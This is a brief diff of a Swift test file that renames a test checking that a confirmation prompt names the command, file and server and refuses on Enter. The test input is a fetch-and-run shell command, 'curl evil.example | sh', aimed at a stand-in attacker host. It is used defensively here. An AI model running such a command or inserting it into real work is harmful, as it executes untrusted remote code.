@@ -25,7 +25,7 @@ import Workspace
 
     private struct Missing: Error {}
 
-    @Test func `it names the words, the file and the server, and Enter refuses`() async throws {
+    @Test func `the question names command, file and server, and Enter refuses`() async throws {
         var store = TestStore.opened()
         _ = try await Self.ask(&store, ["curl evil.example | sh"])
         for text in ["curl evil.example | sh", "collections/c/environments/e.json", "https://h:443", "Refuse"] {
